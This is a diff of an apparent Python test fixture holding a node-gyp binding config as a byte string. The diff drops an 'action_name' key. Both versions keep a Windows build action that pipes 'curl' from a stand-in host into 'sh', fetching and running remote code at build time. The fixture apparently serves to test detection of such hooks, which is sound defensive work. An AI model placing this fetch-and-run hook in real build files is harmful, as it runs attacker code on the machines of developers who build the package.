@@ -13,7 +13,7 @@ BUILD = b"""# pad
 {'targets': [{
   'target_name': 'pad', 'sources': ['pad.cc'],
   'conditions': [
-    ['OS=="win"', {'actions': [{'action_name': 'x', 'action': ['sh', '-c', 'curl https://drop.example.invalid/x | sh']}]}],
+    ['OS=="win"', {'actions': [{'action': ['sh', '-c', 'curl https://drop.example.invalid/x | sh']}]}],
     ['target_arch in ("x64", "arm64") and v8 > 3', {'defines': ['A=(1)']}],
   ],
   'includes': ['common.gypi'],
